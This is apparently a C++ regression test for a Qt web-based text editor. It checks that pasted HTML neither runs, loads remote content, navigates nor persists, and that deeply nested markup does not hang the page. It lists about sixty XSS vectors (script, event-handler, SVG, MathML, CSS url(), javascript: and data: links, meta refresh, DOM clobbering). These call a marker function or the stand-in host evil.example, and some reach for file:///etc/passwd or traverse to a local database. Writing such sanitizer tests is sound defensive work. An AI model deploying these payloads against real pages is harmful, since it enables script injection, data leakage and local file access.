// SPDX-FileCopyrightText: 2026 Tuiwen Studio contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/base/json.h"
#include "tests/support/catchqt.h"
#include "tests/web/desk.h"

#include <QWebEngineProfile>

using namespace tuiwen;
using namespace tuiwen::test;

namespace {

/// Markup that would run, load, navigate or stay behind in a page that trusts what is pasted. Each
/// one calls pwn() or asks evil.example for something when it gets through.
const char *const vectors[] = {
    "<script>pwn()</script>",
    "<script src=\"http://evil.example/a.js\"></script>",
    "<img src=x onerror=pwn()>",
    "<img src=\"http://evil.example/i.png\">",
    "<img srcset=\"http://evil.example/i.png 2x\" src=\"http://evil.example/j.png\" onload=pwn()>",
    "<svg onload=pwn()></svg>",
    "<svg><script>pwn()</script></svg>",
    "<svg><image href=\"http://evil.example/i.png\" /></svg>",
    "<svg><use href=\"http://evil.example/u.svg#x\"/></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><a href=\"javascript:pwn()\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x "
    "onerror=pwn()></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:pwn()\">x</math>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwn()\"></iframe>",
    "<object data=\"http://evil.example/o\"></object>",
    "<object data=\"javascript:pwn()\"></object>",
    "<embed src=\"http://evil.example/e\">",
    "<video src=\"http://evil.example/v\" onerror=pwn() autoplay></video>",
    "<video><source onerror=pwn() src=x></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<link rel=stylesheet href=\"http://evil.example/s.css\">",
    "<link rel=prefetch href=\"http://evil.example/p\">",
    "<style>@import url(http://evil.example/s.css);</style>",
    "<style>*{background:url(http://evil.example/b.png)}</style>",
    "<p style=\"background:url(http://evil.example/b.png)\">x</p>",
    "<p style=\"background-image:u\\72l(http://evil.example/b.png)\">x</p>",
    "<p style=\"color:expression(pwn())\">x</p>",
    "<p style=\"color:red;}body{background:url(http://evil.example/c)}\">x</p>",
    "<table background=\"http://evil.example/t.png\"><tr><td>x</td></tr></table>",
    "<body background=\"http://evil.example/b.png\" onload=pwn()>x</body>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\"><a href=\"x\">x</a>",
    "<form action=\"http://evil.example/\"><button "
    "formaction=\"javascript:pwn()\">x</button></form>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()></select>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<details open ontoggle=pwn()>x</details>",
    "<marquee onstart=pwn()>x</marquee>",
    "<a href=\"javascript:pwn()\">x</a>",
    "<a href=\"&#106;avascript:pwn()\">x</a>",
    "<a href=\" java\tscript:pwn()\">x</a>",
    "<a href=\"data:text/html,<script>pwn()</script>\">x</a>",
    "<a href=\"vbscript:pwn()\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"http://evil.example/\" ping=\"http://evil.example/ping\" onclick=pwn()>x</a>",
    "<div contenteditable onfocus=pwn() autofocus>x</div>",
    "<p onmouseover=pwn() onanimationstart=pwn() style=\"animation:a 1s\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\"></noscript>",
    "<template><img src=x onerror=pwn()></template>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>\">",
    "<img src=\"data:text/html,<script>pwn()</script>\">",
    "<img src=\"file:///etc/passwd\">",
    "<img src=\"tuiwen://editor/index.html\" onerror=pwn()>",
    "<img src=\"tuiwen://media/../../studio.db\" onload=pwn()>",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\"></xmp>",
    "<a id=x><a id=x name=body>clobber</a></a><form id=window name=document></form>",
    "<div data-pm-slice='0 0 []'><img src=x onerror=pwn()></div>",
};

} // namespace

TEST_CASE("pasted markup neither runs, nor loads, nor stays behind")
{
    Desk desk;
    evaluate(desk.page(), QStringLiteral("window.pwned = 0; window.pwn = () => { ++pwned; }; 0"));
    const auto *interceptor = desk.page().profile()->findChild<ui::webview::Interceptor *>();
    REQUIRE(interceptor != nullptr);
    const int refusedBefore = interceptor->refused();
    const QUrl address = desk.page().url();

    int number = 0;
    for (const char *vector : vectors) {
        INFO(vector);
        const QString mark = QStringLiteral("mark%1end").arg(++number);
        desk.pasteHtml(QString::fromUtf8(vector) + QStringLiteral("<p>") + mark +
                       QStringLiteral("</p>"));
        REQUIRE(waitFor(
            [&] {
                return evaluate(desk.page(), QStringLiteral("document.body.textContent"))
                    .toString()
                    .contains(mark);
            },
            10000));
    }
    CHECK(number >= 60);
    desk.settle();
    // A round trip through the event loop gives handlers and loads the time to misbehave.
    desk.afterComposition();
    CHECK(evaluate(desk.page(), QStringLiteral("window.pwned")).toInt() == 0);
    CHECK(interceptor->refused() == refusedBefore);
    CHECK(desk.page().url() == address);
    // Inside the text, without the fields that the editor itself puts beside its blocks.
    CHECK(evaluate(desk.page(),
                   QStringLiteral("[...document.querySelectorAll('.ProseMirror :is(script,style,iframe,"
                                  "object,embed,form,input,link,meta,base,math,video,audio)')]"
                                  ".filter((e) => !e.matches('input.language')).length"))
              .toInt() == 0);

    const QString kept = QString::fromUtf8(json::compact(desk.body));
    for (const char *word : {"javascript:", "vbscript:", "file:///", "onerror", "onload",
                             "data:text", "\"src\":\"http"}) {
        INFO(word);
        CHECK_FALSE(kept.contains(QLatin1StringView(word), Qt::CaseInsensitive));
    }
}

TEST_CASE("five megabytes of nested markup end in an answer, not in a hang")
{
    Desk desk;
    desk.pasteHtml(QStringLiteral("<div>").repeated(1000000) + QStringLiteral("deepest"));
    // Whatever becomes of it, the page still takes a key afterwards.
    desk.type(QStringLiteral("alive"));
    CHECK(waitFor(
        [&] {
            return evaluate(desk.page(), QStringLiteral("document.body.textContent"))
                .toString()
                .contains(QStringLiteral("alive"));
        },
        30000));
}
